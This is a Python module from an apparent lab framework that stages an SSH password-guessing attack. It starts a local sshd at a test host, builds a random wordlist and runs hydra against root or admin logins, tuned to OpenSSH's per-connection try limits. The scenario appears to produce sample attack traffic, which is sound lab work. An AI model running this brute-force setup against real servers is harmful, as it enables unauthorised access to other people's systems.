"""Guessing passwords of an ssh server with hydra: a few connections at a time, some tries each.

OpenSSH allows six tries a connection and drops connections at random above ten unauthenticated ones (MaxStartups).
"""

from __future__ import annotations

import contextlib
import random
from dataclasses import dataclass

from tools.lab.openssh import serve_sshd
from tools.lab.place import Place

CATEGORY, PROGRAMS, MODULES = "attack", ("hydra", "sshd", "ssh-keygen"), ()
HOST = "shell.victim.test"


@dataclass(frozen=True, slots=True)
class Plan:
    tries: int
    tasks: int
    most: int  # tries a connection


def plan(rng: random.Random, length: float) -> Plan:
    return Plan(round(rng.randrange(8, 40) * length), rng.choice([2, 4, 4, 8]), rng.choice([1, 2, 3, 6]))


async def serve(place: Place) -> None:
    await serve_sshd(place, HOST, "PasswordAuthentication yes", f"MaxAuthTries {place.plan.most}")


async def run(place: Place) -> None:
    rng, drawn = place.rng, place.plan
    words = place.folder / "words"
    stems = rng.choices(["admin", "root", "pass", "test"], k=drawn.tries)
    words.write_text("".join(f"{stem}{rng.randrange(10**5)}\n" for stem in stems))
    who = ["-l", rng.choice(["root", "admin"]), "-P", str(words), "-t", str(drawn.tasks)]
    with contextlib.suppress(TimeoutError):  # it waits long for what the server has dropped
        await place.call("hydra", "-I", "-w", "2", *who, f"ssh://{place.names.v4(HOST)}", seconds=20)
